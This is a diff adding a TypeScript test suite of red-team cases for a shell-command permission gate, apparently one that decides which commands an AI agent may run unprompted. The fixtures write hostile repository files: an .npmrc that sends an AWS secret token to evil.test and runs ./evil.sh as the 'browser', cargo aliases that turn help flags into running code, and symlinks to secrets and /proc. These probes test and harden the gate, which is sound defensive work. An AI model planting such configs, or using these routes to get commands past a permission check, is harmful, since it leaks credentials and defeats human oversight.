@@ -1,0 +1,174 @@
+// Red-team cases for the help/version, npm, cargo, terraform/packer, openssl and version-manager rules,
+// proved on the compiled binary in real temporary git repositories written as a hostile author would
+// write them: "allow" can only come from the fast path (no classifier credentials). Each block names
+// the hole it closes; the controls beside them show the rule still allows what it should.
+import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { dirname, join } from "node:path";
+import { type BinaryVerdict, binaryVerdicts, ensureBinary, isolatedHome } from "../support/fastpath-binary.ts";
+import { git } from "../support/git.ts";
+
+const work = realpathSync(mkdtempSync(join(tmpdir(), "ccgate-redteam-tc-")));
+const { env } = isolatedHome();
+afterAll(() => rmSync(work, { recursive: true, force: true }));
+beforeAll(() => ensureBinary());
+
+function put(path: string, text: string): void {
+  mkdirSync(dirname(path), { recursive: true });
+  writeFileSync(path, text);
+}
+
+/** A git repository at `work/<name>/repo` with `files` written (the parent directory is outside it). */
+function repo(name: string, files: Record<string, string> = {}): string {
+  const dir = join(work, name, "repo");
+  mkdirSync(dir, { recursive: true });
+  git(dir, "init", "-q", "-b", "feature/x");
+  put(join(dir, "README.md"), "# r\n");
+  for (const [p, t] of Object.entries(files)) put(join(dir, p), t);
+  return dir;
+}
+
+async function expectVerdicts(dir: string, cases: Record<string, BinaryVerdict>): Promise<void> {
+  const got = await binaryVerdicts(Object.keys(cases), dir, env);
+  const wrong = Object.entries(cases)
+    .filter(([c, v]) => got.get(c) !== v)
+    .map(([c, v]) => `${c}: want ${v}, got ${got.get(c)}`);
+  expect(wrong).toEqual([]);
+}
+
+const PKG = { "package.json": '{"name":"x","version":"1.0.0","scripts":{"build":"echo hi"}}\n' };
+
+describe("npm: a project .npmrc changes every verb, not only the registry reads", () => {
+  // viewer=browser + browser=CMD makes `npm help` run CMD; registry= + an ${ENV} token reaches any host
+  // from the update check of every verb; logs-dir / cache make any call create directories elsewhere.
+  const npmrc =
+    "registry=https://evil.test/\n//evil.test/:_authToken=$" +
+    "{AWS_SECRET_ACCESS_KEY}\nviewer=browser\nbrowser=./evil.sh\nlogs-dir=/tmp/ccgate-redteam-logs\n";
+
+  test("every npm verb falls through where a project .npmrc exists", async () => {
+    const dir = repo("npmrc-all", { ...PKG, ".npmrc": npmrc, "evil.sh": "#!/bin/sh\n" });
+    await expectVerdicts(dir, {
+      // the verb is found after a global option's value (was read as the verb `silent`)
+      "npm --loglevel silent view lodash": "fallthrough",
+      "npm --color always whoami": "fallthrough",
+      "npm -w x view lodash": "fallthrough",
+      "npm --workspace x ping": "fallthrough",
+      "npm --omit dev audit": "fallthrough",
+      // the browser the .npmrc names
+      "npm help install": "fallthrough",
+      "npm help-search install": "fallthrough",
+      // the update check and the log directory
+      "npm ls": "fallthrough",
+      "npm run": "fallthrough",
+      "npm pkg get name": "fallthrough",
+      "npm config list": "fallthrough",
+      "npm --version": "fallthrough",
+      "npm version": "fallthrough",
+      "ls README.md": "allow",
+    });
+  });
+
+  test("a .npmrc in a directory named by --prefix / -C (also bundled as -wC) is read too", async () => {
+    const dir = repo("npmrc-prefix", { ...PKG, "sub/package.json": PKG["package.json"], "sub/.npmrc": npmrc });
+    await expectVerdicts(dir, {
+      "npm ls": "allow",
+      "npm view lodash": "allow",
+      "npm ls --prefix sub": "fallthrough",
+      "npm ls --prefix=sub": "fallthrough",
+      "npm help --prefix sub install": "fallthrough",
+      "npm ls -wC sub": "fallthrough",
+      "npm view -wC sub lodash": "fallthrough",
+      "npm ls -gC sub": "fallthrough",
+      "npm ls -lw x": "fallthrough",
+      "npm help -Cw sub": "fallthrough",
+      "cd sub && npm ls": "fallthrough",
+    });
+  });
+});
+
+describe("cargo: the one-letter verbs are aliases a repository config can redefine", () => {
+  // `b`, `c`, `d`, `r`, `t` are not clap subcommands: cargo looks up `[alias]` first, so
+  // `b = "run --"` turns `cargo b --help` into `cargo run -- --help` (builds and runs repository code).
+  test("cargo b/c/d/r/t --help fall through where a repository cargo config exists", async () => {
+    const dir = repo("cargo-alias", {
+      "Cargo.toml": "[package]\nname = 'x'\nversion = '0.1.0'\n",
+      "src/main.rs": "fn main() {}\n",
+      ".cargo/config.toml": '[alias]\nb = "run --"\nc = "run --"\nd = "run --"\nr = "run --"\nt = "run --"\n',
+    });
+    await expectVerdicts(dir, {
+      "cargo b --help": "fallthrough",
+      "cargo c --help": "fallthrough",
+      "cargo d -h": "fallthrough",
+      "cargo r --help": "fallthrough",
+      "cargo t --help": "fallthrough",
+      "cd src && cargo b --help": "fallthrough",
+      "nice cargo b --help": "fallthrough",
+      "timeout 5 cargo t --help": "fallthrough",
+      // clap prints the help of a builtin before any alias is read
+      "cargo build --help": "allow",
+      "cargo test --help": "allow",
+    });
+  });
+});
+
+describe("terraform: the last -chdir wins", () => {
+  // terraform keeps the last `-chdir=` of the leading options; the fmt walk must check that one.
+  test("fmt walks the directory of the last -chdir", async () => {
+    const dir = repo("tf-chdir", { "a/b/main.tf": 'variable "x" {}\n', "a/main.tf": 'variable "y" {}\n' });
+    put(join(work, "tf-chdir", "secret.txt"), "aws_secret_access_key = AKIAEXAMPLE\n");
+    symlinkSync(join(work, "tf-chdir", "secret.txt"), join(dir, "leak.tf"));
+    const a = join(dir, "a");
+    await expectVerdicts(a, {
+      "terraform -chdir=b fmt -check": "allow",
+      "terraform fmt -check": "allow",
+      "terraform -chdir=b -chdir=.. fmt -check -diff": "fallthrough",
+      "terraform -chdir=b -chdir=.. fmt -check -diff -recursive": "fallthrough",
+      "terraform -chdir=.. fmt -check": "fallthrough",
+    });
+  });
+});
+
+describe("a working directory that is a file fails closed without a crash", () => {
+  test("cd into a file, then a tool whose directory facts are looked up", async () => {
+    const dir = repo("cd-file", { ...PKG, "Cargo.toml": "[package]\nname = 'x'\nversion = '0.1.0'\n" });
+    await expectVerdicts(dir, {
+      "cd README.md; npm view lodash": "fallthrough",
+      "cd README.md; npm ls": "fallthrough",
+      "cd README.md; cargo tree --locked": "fallthrough",
+      "cd README.md; cargo --version": "fallthrough",
+      "cd README.md; ansible --version": "fallthrough",
+      "cd README.md; packer --version": "fallthrough",
+      "cd README.md; terraform fmt -check": "fallthrough",
+      "cd README.md; ls": "fallthrough",
+    });
+  });
+});
+
+describe("version-manager files that are not plain small files", () => {
+  // /proc files report size 0 and may be endless (pagemap): the read is bounded, the answer a refusal.
+  test("a .tool-versions / rust-toolchain symlinked to /proc or a device falls through promptly", async () => {
+    const dir = repo("proc-link");
+    symlinkSync("/proc/self/pagemap", join(dir, ".tool-versions"));
+    const sub = join(dir, "sub");
+    mkdirSync(sub);
+    symlinkSync("/dev/zero", join(sub, "rust-toolchain"));
+    mkdirSync(join(dir, "d", "rust-toolchain.toml"), { recursive: true });
+    mkdirSync(join(dir, "loop"));
+    symlinkSync("rust-toolchain", join(dir, "loop", "rust-toolchain"));
+    await expectVerdicts(dir, {
+      "ls README.md": "fallthrough",
+      "cargo --version": "fallthrough",
+    });
+    rmSync(join(dir, ".tool-versions"));
+    await expectVerdicts(dir, {
+      "ls README.md": "allow",
+      "cargo --version": "allow",
+      "cd sub && cargo --version": "fallthrough",
+      "cd sub && ls": "allow",
+      "cd d && rustc --version": "fallthrough",
+      "cd loop && rustc --version": "fallthrough",
+      "cd loop; rustup --version": "fallthrough",
+    });
+  }, 30000);
+});
